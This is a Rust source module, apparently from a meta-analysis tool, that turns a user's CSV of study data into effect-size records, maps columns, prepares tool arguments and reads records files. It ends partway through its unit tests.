//! "Your data": a person's (or a command line's) CSV of study data turned into records.
//!
//! The page's Your data sends the CSV text, the measure and any columns mapped by hand, and
//! receives a [`View`]: the CSV's columns, each measure column matched to a CSV column (by
//! name, unless mapped by hand), every row with its effect size or its error, the records
//! of the good rows, and those records as CSV for download. The page only shows it. The CLI
//! reads records files through [`records_from_text`].
//!
//! A tool run from the page on Your data gets its arguments completed here ([`tool_input`]):
//! the records (or, for a tool of raw data, the CSV's rows as mapped: [`tool_data`]), and
//! the study column chosen among the columns ([`STUDY`]) as the arguments that name a
//! record's study or cluster.

use crate::csv_table::{self, Table};
use crate::tools::{self, EffectSizeRecord, ToolError};
use meta_analysis::effect_sizes::{AddTo, Column, Measure};
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};
use std::collections::BTreeMap;

/// The key of the column naming each record's study, among the columns mapped (matched by
/// this name, or chosen by hand). It is no column of the measure: the CSV column keeps its own
/// name in the records and rows, and a tool run on Your data gets that name as its `study`
/// or `cluster` argument ([`tool_input`]).
pub const STUDY: &str = "study";

/// What the page asks for.
#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Request {
    /// The CSV text (pasted, or read from a file in the browser).
    pub csv: String,
    /// escalc's name of the measure; none: the CSV is only read.
    #[serde(default)]
    pub measure: Option<String>,
    /// Measure column (or `id`, or [`STUDY`]) → CSV column, for columns mapped by hand; an
    /// empty CSV column name leaves the measure column unmapped.
    #[serde(default)]
    pub mapping: BTreeMap<String, String>,
    /// The continuity correction as the person typed it (read here, not by the page: text
    /// that is not a number is an error, not the default); empty: the default.
    #[serde(default)]
    pub add: Option<String>,
    #[serde(default)]
    pub to: Option<String>,
    /// escalc's `vtype` (empty or absent: "LS").
    #[serde(default)]
    pub vtype: Option<String>,
    /// escalc's `drop00`.
    #[serde(default)]
    pub drop00: Option<bool>,
}

/// `add` as typed: none when empty, else a finite number, or why it is not one.
fn typed_add(text: Option<&str>) -> Result<Option<f64>, String> {
    let Some(text) = text.map(str::trim).filter(|t| !t.is_empty()) else {
        return Ok(None);
    };
    match text.parse::<f64>() {
        Ok(add) if add.is_finite() => Ok(Some(add)),
        _ => Err(format!(
            "add must be a number such as 0.5 (a decimal point, not a comma), got {}",
            crate::quote::quoted(text)
        )),
    }
}

/// A measure the page offers.
#[derive(Debug, Serialize)]
pub struct MeasureChoice {
    pub name: &'static str,
    pub title: &'static str,
    /// Its input columns.
    pub columns: Vec<&'static str>,
}

/// One column the measure reads (or `id`, or [`STUDY`]), and the CSV column it is read from.
#[derive(Debug, Serialize)]
pub struct Mapping {
    pub column: &'static str,
    pub description: &'static str,
    /// The CSV column, or none.
    pub source: Option<String>,
    /// Whether it was matched by name (not chosen by hand).
    pub by_name: bool,
    /// Whether it may stay unmapped (`id`, the study; in a 2x2 table `bi` or `n1i`, `di` or
    /// `n2i`).
    pub optional: bool,
}

/// The most characters of a cell (a field, a record's id) or a column's name the view
/// shows; a longer one is shown cut ([`shortened`]). Laying out a cell of megabytes would
/// hold the page's thread for seconds (a 1 MB id: about 0.6 s, 4 MB: 2.1 s); the records,
/// the downloads and the tools have every cell whole.
pub const CELL_CHARS: usize = 200;

/// The most characters of a row's error the view shows (a message quotes at most a short
/// prefix of a value, but names columns, whose names may be long).
pub const ERROR_CHARS: usize = 1_000;

/// `text` as the view shows it: whole when it has at most `max` characters, else its first
/// `max` characters, an ellipsis and its length (`… (N characters in all)`); and whether it
/// was cut.
pub fn shortened(text: &str, max: usize) -> (String, bool) {
    // A text of at most `max` bytes has at most `max` characters: most cells stop here.
    if text.len() <= max {
        return (text.to_string(), false);
    }
    match text.char_indices().nth(max) {
        None => (text.to_string(), false),
        Some((end, _)) => (
            format!(
                "{}\u{2026} ({} characters in all)",
                &text[..end],
                text.chars().count()
            ),
            true,
        ),
    }
}

/// One CSV row as the page shows it. A field or an id longer than [`CELL_CHARS`] characters
/// is shown cut ([`shortened`]); [`View::shortened_cells`] counts them.
#[derive(Debug, Serialize)]
pub struct RowView {
    /// 1-based data row.
    pub row: usize,
    /// The line it starts on in the CSV.
    pub line: u64,
    /// Its fields, in CSV column order (each cut after [`CELL_CHARS`] characters).
    pub fields: Vec<String>,
    /// Its record's id (given, or row1, row2, ...; cut after [`CELL_CHARS`] characters).
    pub id: Option<String>,
    pub yi: Option<f64>,
    pub vi: Option<f64>,
    /// Why it gives no record, naming the column.
    pub error: Option<String>,
    /// The CSV column at fault, when the error names one.
    pub error_column: Option<String>,
}

/// escalc's options for the measure chosen and their defaults: the continuity correction
/// (`add`: the measure's default, 1/2 or 0; `to`), `drop00` and `vtype`.
#[derive(Debug, Serialize)]
pub struct Correction {
    pub add: f64,
    pub to: &'static str,
    /// Every value of `to`, the default first.
    pub to_choices: Vec<&'static str>,
    /// Whether the measure reads `add` and `to` (2x2 tables, person-time, proportions and
    /// rates); true before a measure is chosen.
    pub corrected: bool,
    /// Whether the measure reads `drop00` (2x2 tables and two groups' person-time).
    pub drop00: bool,
    /// The measure's `vtype`s, "LS" (the default) first; empty when escalc has no other.
    pub vtypes: Vec<&'static str>,
}

impl Correction {
    /// The options of `measure` (none chosen: a 2x2 table's).
    fn of(measure: Option<Measure>) -> Correction {
        let to = AddTo::default();
        let mut to_choices = vec![to.name()];
        to_choices.extend(AddTo::ALL.iter().filter(|t| **t != to).map(|t| t.name()));
        Correction {
            add: measure.map_or(0.5, Measure::default_add),
            to: to.name(),
            to_choices,
            corrected: measure.is_none_or(Measure::uses_correction),
            drop00: measure.is_none_or(Measure::uses_drop00),
            vtypes: measure
                .and_then(Measure::vtypes)
                .map_or_else(Vec::new, |v| v.iter().map(|v| v.name()).collect()),
        }
    }
}

impl Default for Correction {
    fn default() -> Self {
        Correction::of(None)
    }
}

/// Everything Your data shows.
#[derive(Debug, Default, Serialize)]
pub struct View {
    /// The measures to choose from.
    pub measures: Vec<MeasureChoice>,
    /// The continuity correction's defaults and choices.
    pub correction: Correction,
    /// Why the CSV (or the options) could not be used, with line and column.
    pub error: Option<String>,
    /// What `error` is about: the page offers the column mapping unless the CSV itself (or
    /// the request) could not be read.
    pub error_kind: Option<ViewErrorKind>,
    /// The CSV's column names (whole: a column is mapped by its name).
    pub columns: Vec<String>,
    /// The column names as the page shows them: cut after [`CELL_CHARS`] characters.
    pub column_labels: Vec<String>,
    pub measure: Option<&'static str>,
    pub mapping: Vec<Mapping>,
    /// The CSV column naming each record's study (mapped as [`STUDY`]), if any.
    pub study: Option<String>,
    pub rows: Vec<RowView>,
    /// How many cells of `rows` (fields, ids) and column names are shown cut, being longer
    /// than `cell_chars` characters.
    pub shortened_cells: usize,
    /// [`CELL_CHARS`]: the most characters of a cell the view shows.
    pub cell_chars: usize,
    /// Rows that gave a record, and rows that did not.
    pub k: usize,
    pub bad_rows: usize,
    /// compute_effect_sizes' notes: repeated ids made unique, records with vi = 0.
    pub notes: Vec<String>,
    /// The records of the good rows: id, yi, vi and the row's other columns.
    pub records: Vec<EffectSizeRecord>,
    /// The records as the analysis tools take them (their `records` argument).
    pub tool_records: Vec<Value>,
    /// The records as CSV text (id, yi, vi, then the other columns).
    pub records_csv: String,
}

/// What a view's error is about.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum ViewErrorKind {
    /// The request is not understood (not the JSON the page sends).
    Request,
    /// The CSV could not be read: there are no columns to map.
    Csv,
    /// The continuity-correction options are not valid; the columns can still be mapped.
    Options,
}

/// The view of a request given as JSON text (the page's call); never fails.
pub fn view_json(request_json: &str) -> Value {
    serde_json::to_value(view_of_text(request_json)).expect("views serialize")
}

/// [`view_json`] as JSON text, written from the view itself: the page's call. A view holds
/// every cell of the CSV several times (rows, records, the tools' records); building a JSON
/// tree of it first, only to write it, was one more copy of them all (issue 41 item 6).
pub fn view_text(request_json: &str) -> String {
    serde_json::to_string(&view_of_text(request_json)).expect("views serialize")
}

fn view_of_text(request_json: &str) -> View {
    // Strict JSON first, so a lone surrogate in the pasted text is named as one.
    let request = crate::strict_json::parse(request_json)
        .map_err(|e| e.to_string())
        .and_then(|value| serde_json::from_value::<Request>(value).map_err(|e| e.to_string()));
    match request {
        Ok(request) => view(&request),
        Err(e) => View {
            measures: measures(),
            error: Some(format!("the request is not understood: {e}")),
            error_kind: Some(ViewErrorKind::Request),
            ..View::default()
        },
    }
}

fn measures() -> Vec<MeasureChoice> {
    Measure::ALL
        .iter()
        .map(|m| MeasureChoice {
            name: m.name(),
            title: m.title(),
            columns: m.columns().iter().map(|c| c.name()).collect(),
        })
        .collect()
}

/// Your data's view of `request`.
pub fn view(request: &Request) -> View {
    let measure = request.measure.as_deref().and_then(Measure::parse);
    let mut view = View {
        measures: measures(),
        correction: Correction::of(measure),
        cell_chars: CELL_CHARS,
        ..View::default()
    };
    let table = match csv_table::parse(&request.csv) {
        Ok(table) => table,
        Err(e) => {
            view.error = Some(format!("The CSV could not be read: {e}"));
            view.error_kind = Some(ViewErrorKind::Csv);
            return view;
        }
    };
    view.columns = table.header.clone();
    view.column_labels = shown_fields(&table.header, &mut view.shortened_cells);
    view.measure = measure.map(Measure::name);
    view.mapping = mapping(measure, &table.header, &request.mapping);
    view.study = source(&view.mapping, STUDY);
    let Some(measure) = measure else {
        view.rows = rows_without_results(&table, &mut view);
        return view;
    };
    let blank = |text: &Option<String>| text.clone().filter(|t| !t.trim().is_empty());
    let options = match typed_add(request.add.as_deref()).and_then(|add| {
        let settings = tools::EscalcSettings {
            add,
            to: blank(&request.to),
            vtype: blank(&request.vtype),
            drop00: request.drop00,
        };
        settings.settings(measure).map_err(|e| e.message)
    }) {
        Ok(options) => options,
        Err(message) => {
            view.error = Some(message);
            view.error_kind = Some(ViewErrorKind::Options);
            view.rows = rows_without_results(&table, &mut view);
            return view;
        }
    };
    let data = data_rows(&table, &view.mapping, true);
    let (outcomes, notes) = tools::compute_effect_size_rows(measure, &data, &options);
    view.notes = notes;
    let source_of = |column: &str| {
        view.mapping
            .iter()
            .find(|m| m.column == column)
            .and_then(|m| m.source.clone())
            .or_else(|| Some(column.to_string()))
    };
    let mut rows = Vec::with_capacity(table.rows.len());
    let mut cut = 0;
    for ((i, row), outcome) in table.rows.iter().enumerate().zip(outcomes) {
        let mut shown = RowView {
            row: i + 1,
            line: row.line,
            fields: shown_fields(&row.fields, &mut cut),
            id: None,
            yi: None,
            vi: None,
            error: None,
            error_column: None,
        };
        match outcome {
            Ok(record) => {
                shown.id = Some(shown_cell(&record.id, &mut cut));
                shown.yi = Some(record.yi);
                shown.vi = Some(record.vi);
                view.records.push(record);
            }
            Err(e) => {
                let error = format!("line {}: {}", row.line, e.message);
                shown.error = Some(shortened(&error, ERROR_CHARS).0);
                shown.error_column = e.column.as_deref().and_then(source_of);
                view.bad_rows += 1;
            }
        }
        rows.push(shown);
    }
    view.rows = rows;
    view.shortened_cells += cut;
    view.k = view.records.len();
    view.tool_records = tool_records(&view.records);
    view.records_csv = records_csv(&view.records);
    view
}

/// The CSV column mapped to `column`, if any.
fn source(mapping: &[Mapping], column: &str) -> Option<String> {
    mapping
        .iter()
        .find(|m| m.column == column)
        .and_then(|m| m.source.clone())
}

/// A cell as the view shows it; `cut` counts the cells shown cut.
fn shown_cell(text: &str, cut: &mut usize) -> String {
    let (shown, was_cut) = shortened(text, CELL_CHARS);
    *cut += usize::from(was_cut);
    shown
}

fn shown_fields(fields: &[String], cut: &mut usize) -> Vec<String> {
    fields.iter().map(|field| shown_cell(field, cut)).collect()
}

fn rows_without_results(table: &Table, view: &mut View) -> Vec<RowView> {
    let cut = &mut view.shortened_cells;
    table
        .rows
        .iter()
        .enumerate()
        .map(|(i, row)| RowView {
            row: i + 1,
            line: row.line,
            fields: shown_fields(&row.fields, cut),
            id: None,
            yi: None,
            vi: None,
            error: None,
            error_column: None,
        })
        .collect()
}

/// Each measure column (and `id`) with its CSV column: the one chosen by hand, else the one
/// whose name is the column's (ignoring case and surrounding space), else none.
fn mapping(
    measure: Option<Measure>,
    header: &[String],
    chosen: &BTreeMap<String, String>,
) -> Vec<Mapping> {
    let by_name = |name: &str| {
        header
            .iter()
            .find(|h| h.trim().eq_ignore_ascii_case(name))
            .cloned()
    };
    let mut columns: Vec<(&'static str, &'static str, bool)> = vec![
        ("id", "the study's record id (optional)", true),
        (
            STUDY,
            "the study each record belongs to, when a study gives several effect sizes (optional; \
             the tools for dependent effect sizes take it as their study or cluster column)",
            true,
        ),
    ];
    if let Some(m) = measure {
        columns.extend(
            m.columns()
                .iter()
                .map(|&c| (c.name(), c.description(), m.alternative(c).is_some())),
        );
    }
    columns
        .into_iter()
        .map(|(column, description, optional)| {
            let (source, by_hand) = match chosen.get(column) {
                Some(source) if source.is_empty() => (None, true),
                Some(source) if header.contains(source) => (Some(source.clone()), true),
                _ => (by_name(column), false),
            };
            Mapping {
                column,
                description,
                by_name: source.is_some() && !by_hand,
                source,
                optional,
            }
        })
        .collect()
}

/// The CSV rows as the tool's `data`: each mapped column under its measure name, every other
/// CSV column under its own name (the study column too). With `measure_chosen`, a CSV column
/// named like a measure column but not mapped to it is left out, so it cannot be read as
/// that column; without, only `id` can be mapped and every other column keeps its name.
fn data_rows(table: &Table, mapping: &[Mapping], measure_chosen: bool) -> Vec<Map<String, Value>> {
    let mapped: BTreeMap<&str, &str> = mapping
        .iter()
        .filter(|m| m.column != STUDY)
        .filter_map(|m| Some((m.source.as_deref()?, m.column)))
        .collect();
    let reserved = |name: &str| {
        name.eq_ignore_ascii_case("id")
            || (measure_chosen
                && (name.eq_ignore_ascii_case("yi")
                    || name.eq_ignore_ascii_case("vi")
                    || Column::ALL
                        .iter()
                        .any(|c| c.name().eq_ignore_ascii_case(name))))
    };
    table
        .json_rows()
        .into_iter()
        .zip(&table.rows)
        .map(|(row, raw)| {
            let mut data = Map::new();
            for (name, value) in row {
                match mapped.get(name.as_str()) {
                    Some(&"id") => {
                        let field =
                            &raw.fields[table.header.iter().position(|h| h == &name).unwrap_or(0)];
                        data.insert(
                            "id".into(),
                            if field.is_empty() {
                                Value::Null
                            } else {
                                Value::String(field.clone())
                            },
                        );
                    }
                    Some(column) => {
                        data.insert((*column).to_string(), value);
                    }
                    None if !reserved(&name) => {
                        data.insert(name, value);
                    }
                    None => {}
                }
            }
            data
        })
        .collect()
}

/// The CSV's rows as a tool of raw data takes them (its `data` argument: the 2x2-table tools,
/// the effect sizes): each column mapped for the chosen measure under the measure's name, the
/// others under their own (see [`data_rows`]); without a measure, every column under its own
/// name. None when the CSV cannot be read.
pub fn tool_data(request: &Request) -> Vec<Map<String, Value>> {
    let Ok(table) = csv_table::parse(&request.csv) else {
        return Vec::new();
    };
    let measure = request.measure.as_deref().and_then(Measure::parse);
    let mapping = mapping(measure, &table.header, &request.mapping);
    data_rows(&table, &mapping, measure.is_some())
}

/// [`tool_data`] of a request given as JSON text (the page's worker); an empty array when the
/// request is not understood (the view says why).
pub fn rows_json(request_json: &str) -> Value {
    let rows = crate::strict_json::parse(request_json)
        .ok()
        .and_then(|value| serde_json::from_value::<Request>(value).ok())
        .map(|request| tool_data(&request))
        .unwrap_or_default();
    Value::Array(rows.into_iter().map(Value::Object).collect())
}

/// Which argument of a tool takes Your data.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Takes {
    /// Its records, as `records`: the analyses and plots.
    Records,
    /// Its CSV rows as mapped ([`tool_data`]), as `data`: the tools of raw data.
    Data,
}

impl Takes {
    pub fn argument(self) -> &'static str {
        match self {
            Takes::Records => "records",
            Takes::Data => "data",
        }
    }
}

/// What Your data offers a tool run on it, as the page's worker (which holds the view) says.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Offer {
    pub takes: Takes,
    /// The view's study column ([`View::study`]).
    #[serde(default)]
    pub study: Option<String>,
    /// The view's records, and the CSV's rows.
    pub k: usize,
    pub rows: usize,
}

/// A run's arguments completed from Your data, but for the data themselves, which the
/// worker attaches as `takes` (they are megabytes, and it holds them already).
#[derive(Debug, PartialEq, Serialize)]
pub struct ToolInput {
    pub args: Map<String, Value>,
    pub takes: Takes,
}

/// The arguments of `tool` that name the column of a record's study (or cluster): the
/// three-level model's `study`; the cluster-robust tests' `cluster`, and their `study` only
/// with the three-level model (their other models refuse it).
fn study_arguments(tool: &str, args: &Map<String, Value>) -> &'static [&'static str] {
    if tool == tools::FIT_MULTILEVEL.name {
        &["study"]
    } else if tool == tools::ROBUST_TEST.name {
        match args.get("model").and_then(Value::as_str) {
            Some("multilevel") => &["cluster", "study"],
            _ => &["cluster"],
        }
    } else {
        &[]
    }
}

/// The arguments of a person's run of `tool` on Your data: `args` as typed in its form, with
/// Your data's study column as each argument naming a study or cluster column that was left
/// empty. Fails with the sentence the form shows when Your data has nothing to give (no
/// records, no rows) or the tool needs a study column and none is chosen.
pub fn tool_input(
    tool: &str,
    mut args: Map<String, Value>,
    offer: &Offer,
) -> Result<ToolInput, String> {
    match offer.takes {
        Takes::Records if offer.k == 0 => {
            return Err(
                "Your data has no records yet: paste a CSV there and choose a measure.".into(),
            )
        }
        Takes::Data if offer.rows == 0 => {
            return Err("Your data has no rows yet: paste a CSV there.".into())
        }
        _ => {}
    }
    for &argument in study_arguments(tool, &args) {
        if args.contains_key(argument) {
            continue;
        }
        match &offer.study {
            Some(column) => {
                args.insert(argument.into(), Value::String(column.clone()));
            }
            None => {
                return Err(format!(
                    "{tool} needs the column naming each record's study: choose it as \
                     \"{STUDY}\" among Your data's columns, or type {argument} in the form."
                ))
            }
        }
    }
    args.remove(offer.takes.argument());
    Ok(ToolInput {
        args,
        takes: offer.takes,
    })
}

/// [`tool_input`] with its arguments and offer as JSON text (the page's worker):
/// `{"ok": {"args", "takes"}}` or `{"error": sentence}`; never fails.
pub fn tool_input_json(tool: &str, args_json: &str, offer_json: &str) -> Value {
    let outcome = crate::strict_json::parse(args_json)
        .map_err(|e| format!("the arguments are not understood: {e}"))
        .and_then(|value| match value {
            Value::Object(args) => Ok(args),
            _ => Err("the arguments are not a JSON object".to_string()),
        })
        .and_then(|args| {
            let offer = serde_json::from_str::<Offer>(offer_json)
                .map_err(|e| format!("Your data's offer is not understood: {e}"))?;
            tool_input(tool, args, &offer)
        });
    match outcome {
        Ok(input) => serde_json::json!({ "ok": input }),
        Err(message) => serde_json::json!({ "error": message }),
    }
}

/// The records as the analysis tools' `records` argument takes them: `{id, yi, vi}` and the
/// row's other columns (moderators, the study column) as further properties.
pub fn tool_records(records: &[EffectSizeRecord]) -> Vec<Value> {
    records
        .iter()
        .map(|r| {
            let mut record = Map::new();
            record.insert("id".into(), Value::from(r.id.clone()));
            record.insert("yi".into(), Value::from(r.yi));
            record.insert("vi".into(), Value::from(r.vi));
            // The row's other columns, as the tools' moderators: numbers and text only (an
            // empty cell is left out, so a moderator missing there is named by the tool).
            for (key, value) in &r.other {
                if value.is_number() || value.is_string() {
                    record.entry(key.clone()).or_insert_with(|| value.clone());
                }
            }
            Value::Object(record)
        })
        .collect()
}

/// A record as the tools take it: id, yi and vi, and its other columns that are numbers or
/// text (the moderators of a meta-regression or a subgroup analysis).
fn with_moderators(record: Map<String, Value>) -> Value {
    Value::Object(
        record
            .into_iter()
            .filter(|(key, value)| {
                matches!(key.as_str(), "id" | "yi" | "vi") || value.is_number() || value.is_string()
            })
            .collect(),
    )
}

/// The records as CSV: id, yi, vi, then every other column in the order first seen.
pub fn records_csv(records: &[EffectSizeRecord]) -> String {
    let mut columns: Vec<String> = ["id", "yi", "vi"].map(String::from).to_vec();
    for record in records {
        for key in record.other.keys() {
            if !columns.contains(key) {
                columns.push(key.clone());
            }
        }
    }
    let rows: Vec<Map<String, Value>> = records
        .iter()
        .map(|r| match serde_json::to_value(r) {
            Ok(Value::Object(map)) => map,
            _ => Map::new(),
        })
        .collect();
    csv_table::write(&columns, &rows)
}

/// Records from a file's text, for `exemplar call --records`: JSON (an array of records, or
/// an object with `records`, such as `exemplar escalc` prints), or CSV with columns yi and
/// vi (and optionally id), or, with `measure`, CSV of raw data whose records
/// [`tools::COMPUTE_EFFECT_SIZES`] computes. Returns the records as the tools take them.
pub fn records_from_text(
    text: &str,
    measure: Option<&str>,
    settings: &tools::EscalcSettings,
) -> Result<Vec<Value>, ToolError> {
    records_and_omitted_from_text(text, measure, settings).map(|(records, ..)| records)
}

/// The records read from a file's text, the rows of raw data left out (`{id, reason}`)
/// and the notes on rows kept.
pub type RecordsFromText = (Vec<Value>, Vec<Value>, Vec<Value>);

/// [`records_from_text`], the rows of raw data left out, each `{id, reason}`, and the notes
/// on rows kept (the `omitted` and `notes` of [`tools::COMPUTE_EFFECT_SIZES`]; none for
/// records).
pub fn records_and_omitted_from_text(
    text: &str,
    measure: Option<&str>,
    settings: &tools::EscalcSettings,
) -> Result<RecordsFromText, ToolError> {
    let trimmed = text.trim_start_matches('\u{feff}').trim_start();
    if measure.is_none() && (trimmed.starts_with('[') || trimmed.starts_with('{')) {
        return Ok((records_from_json(trimmed)?, Vec::new(), Vec::new()));
    }
    let table = csv_table::parse(text).map_err(|e| invalid_data(format!("the CSV: {e}")))?;
    let data = table.json_rows();
    match measure {
        Some(measure) => records_from_raw_data(data, measure, settings),
        None => {
            let (records, notes) = records_from_csv(&table, &data)?;
            Ok((records, Vec::new(), notes))
        }
    }
}

/// An error in the records file's content.
fn invalid_data(message: String) -> ToolError {
    ToolError::new(tools::ErrorCode::InvalidData, message)
}

/// The records of a JSON text starting with `[` or `{`: an array of record objects, or an
/// object with a `records` array.
fn records_from_json(trimmed: &str) -> Result<Vec<Value>, ToolError> {
    let value = crate::strict_json::parse(trimmed)
        .map_err(|e| invalid_data(format!("the records file is not valid JSON: {e}")))?;
    let records = match value {
        Value::Array(records) => records,
        Value::Object(mut object) => match object.remove("records") {
            Some(Value::Array(records)) => records,
            _ => {
                return Err(invalid_data(
                    "the JSON object has no `records` array".into(),
                ))
            }
        },
        _ => unreachable!("the text starts with [ or {{"),
    };
    let records = records
        .into_iter()
        .enumerate()
        .map(|(i, r)| match r {
            Value::Object(o) => Ok(with_moderators(o)),
            other => Err(invalid_data(format!(
                "record {} of the file is {}, not an object {{id, yi, vi, …}}",
                i + 1,
                crate::quote::json_value(&other)
            ))),
        })
        .collect::<Result<_, _>>()?;
    Ok(records)
}

/// The records [`tools::COMPUTE_EFFECT_SIZES`] computes from CSV rows of raw data with
/// `measure` and `settings`, with the rows it left out and its notes.
fn records_from_raw_data(
    data: Vec<Map<String, Value>>,
    measure: &str,
    settings: &tools::EscalcSettings,
) -> Result<RecordsFromText, ToolError> {
    let mut args = Map::new();
    args.insert("measure".into(), measure.into());
    args.insert("data".into(), data.into());
    settings.write_into(&mut args);
    let result = tools::call(tools::COMPUTE_EFFECT_SIZES.name, &Value::Object(args))?;
    let records = match result.get("records") {
        Some(Value::Array(records)) => records
            .iter()
            .filter_map(|r| r.as_object().cloned().map(with_moderators))
            .collect(),
        _ => Vec::new(),
    };
    let omitted = match result.get("omitted") {
        Some(Value::Array(omitted)) => omitted.clone(),
        _ => Vec::new(),
    };
    let notes = match result.get("notes") {
        Some(Value::Array(notes)) => notes.clone(),
        _ => Vec::new(),
    };
    Ok((records, omitted, notes))
}

/// The records of a CSV table with columns yi and vi (and optionally id and moderators),
/// with repeated ids made unique; gives them and the notes on the ids changed.
fn records_from_csv(
    table: &Table,
    data: &[Map<String, Value>],
) -> Result<(Vec<Value>, Vec<Value>), ToolError> {
    for column in ["yi", "vi"] {
        if !table.header.iter().any(|h| h == column) {
            return Err(invalid_data(format!(
                "the CSV has no {column} column; give records with columns id, yi and vi, or raw data with --measure"
            )));
        }
    }
    let mut records = Vec::with_capacity(data.len());
    for (i, (row, raw)) in data.iter().zip(&table.rows).enumerate() {
        let mut record = Map::new();
        record.insert(
            "id".into(),
            row.get("id")
                .filter(|v| !v.is_null())
                .cloned()
                .unwrap_or_else(|| Value::String(format!("row{}", i + 1))),
        );
        for (key, value) in row {
            if !matches!(key.as_str(), "id" | "yi" | "vi")
                && (value.is_number() || value.is_string())
            {
                record.insert(key.clone(), value.clone());
            }
        }
        for column in ["yi", "vi"] {
            match &row[column] {
                Value::Number(n) => {
                    record.insert(column.into(), Value::Number(n.clone()));
                }
                other => {
                    return Err(invalid_data(format!(
                        "line {}, column {column}: {other} is not a number",
                        raw.line
                    )))
                }
            }
        }
        records.push(Value::Object(record));
    }
    // A table has no key: repeated ids are made unique as raw data's are.
    let ids: Vec<String> = records
        .iter()
        .map(|r| match &r["id"] {
            Value::String(s) => s.clone(),
            other => other.to_string(),
        })
        .collect();
    let (unique, notes) = tools::unique_ids(ids);
    if !notes.is_empty() {
        for (record, id) in records.iter_mut().zip(unique) {
            if id.contains('#') && record["id"].as_str() != Some(id.as_str()) {
                record["id"] = Value::String(id);
            }
        }
    }
    Ok((records, notes.into_iter().map(Value::String).collect()))
}

#[cfg(test)]
mod tests {
    // Tests of tools beyond the benchmark's are gated on `extended` (the page's first module).
    #![cfg_attr(not(feature = "extended"), allow(unused_imports, dead_code))]
    use super::*;
    use serde_json::json;

    /// The page's text is written from the view itself (no JSON tree first): the same text
    /// as the tree's, for a view with records, bad rows and an error alike.
    #[test]
    fn the_view_text_is_the_view_json_written() {
        for request in [
            json!({"csv": "id,m1i,sd1i,n1i,m2i,sd2i,n2i,x\na,10,2,20,9,2.4,22,1\nb,1,-1,5,2,1,5,z\n",
                   "measure": "SMD"}),
            json!({"csv": "id,x\na,1\n"}),
            json!({"csv": "", "measure": "SMD"}),
        ] {
            let text = request.to_string();
            assert_eq!(view_text(&text), view_json(&text).to_string());
        }
        assert_eq!(view_text("not json"), view_json("not json").to_string());
    }

    const CSV: &str = "study;M1I;sd1i;n1i;mean_control;sd2i;n2i;dose\r\n\
s1;10,2;2,1;20;9,1;2,4;22;5\r\n\
s2;3,1;-1;12;3,9;1,5;12;10\r\n\
s3;12;4;12;14,5;3,5;15;\r\n";

    fn request(mapping: &[(&str, &str)]) -> Request {
        Request {
            csv: CSV.into(),
            measure: Some("SMD".into()),
            mapping: mapping
                .iter()
                .map(|(a, b)| (a.to_string(), b.to_string()))
                .collect(),
            ..Request::default()
        }
    }

    /// Issue 29 item 8: a cell of megabytes is shown cut (laying it out held the page for
    /// seconds); the records, their downloads and the tools keep it whole, and a long column
    /// name still maps by its whole name.
    #[test]
    fn long_cells_are_shown_cut_and_kept_whole() {
        let id = format!("s{}", "\u{e9}".repeat(1_000_000));
        let note = "n".repeat(CELL_CHARS + 1);
        let column = format!("dose{}", "x".repeat(300));
        let csv = format!(
            "id,m1i,sd1i,n1i,m2i,sd2i,n2i,note,{column}\n{id},10,2,20,9,2,22,{note},1\nshort,10,-2,20,9,2,22,,2\n"
        );
        let v = view(&Request {
            csv,
            measure: Some("SMD".into()),
            ..Request::default()
        });
        assert_eq!(v.error, None);
        assert_eq!((v.k, v.bad_rows), (1, 1));
        let cut_id = format!(
            "s{}\u{2026} (1000001 characters in all)",
            "\u{e9}".repeat(CELL_CHARS - 1)
        );
        assert_eq!(v.rows[0].fields[0], cut_id);
        assert_eq!(v.rows[0].id.as_deref(), Some(cut_id.as_str()));
        assert_eq!(
            v.rows[0].fields[7],
            format!(
                "{}\u{2026} ({} characters in all)",
                "n".repeat(CELL_CHARS),
                CELL_CHARS + 1
            )
        );
        assert_eq!(v.rows[0].fields[1], "10", "short cells whole");
        assert_eq!(v.columns[8], column, "a column is mapped by its whole name");
        assert!(
            v.column_labels[8].starts_with("dosexx")
                && v.column_labels[8].ends_with("(304 characters in all)")
        );
        assert_eq!(v.column_labels[..8], v.columns[..8]);
        // The fields, the id and the note of row 1, and the column's name.
        assert_eq!((v.shortened_cells, v.cell_chars), (4, CELL_CHARS));
        assert!(v.rows[1].error.as_deref().unwrap().contains("sd1i"));
        // Whole wherever the data goes.
        assert_eq!(v.records[0].id, id);
        assert_eq!(v.tool_records[0]["id"], id.as_str());
        assert!(v.records_csv.contains(&id) && v.records_csv.contains(&note));
        let json = serde_json::to_string(&v.rows).unwrap();
        assert!(
            json.len() < 10 * CELL_CHARS * 20,
            "{} bytes of rows",
            json.len()
        );
        // A short text is as it is; a long one of few characters too.
        assert_eq!(
            shortened("abc", 2),
            ("ab\u{2026} (3 characters in all)".into(), true)
        );
        assert_eq!(shortened("\u{e9}\u{e9}", 2), ("\u{e9}\u{e9}".into(), false));
    }

    #[test]
    fn columns_are_matched_by_name_and_mapped_by_hand() {
        let v = view(&request(&[]));
        assert_eq!(v.error, None);
        let sources: Vec<(&str, Option<&str>, bool)> = v
            .mapping
            .iter()
            .map(|m| (m.column, m.source.as_deref(), m.by_name))
            .collect();
        assert_eq!(
            sources,
            [
                ("id", None, false),
                ("study", Some("study"), true),
                ("m1i", Some("M1I"), true),
                ("sd1i", Some("sd1i"), true),
                ("n1i", Some("n1i"), true),
                ("m2i", None, false),
                ("sd2i", Some("sd2i"), true),
                ("n2i", Some("n2i"), true),
            ]
        );
        // m2i is not mapped: every row says so.
        assert_eq!(v.k, 0);
        assert!(v.rows[0]
            .error
            .as_deref()
            .unwrap()
            .contains("m2i is missing"));

        let v = view(&request(&[("m2i", "mean_control"), ("id", "study")]));
        assert_eq!((v.k, v.bad_rows), (2, 1));
        assert_eq!(v.rows[0].id.as_deref(), Some("s1"));
        // metafor 3.8-1, escalc("SMD", ...) (tests/fixtures/escalc.json, first row).
        assert!((v.rows[0].yi.unwrap() - 0.47701210405237254).abs() < 1e-12);
        assert_eq!(
            v.rows[1].error.as_deref(),
            Some("line 3: sd1i is -1; it cannot be negative")
        );
        assert_eq!(v.rows[1].error_column.as_deref(), Some("sd1i"));
        assert_eq!(v.records[1].other["dose"], Value::Null);
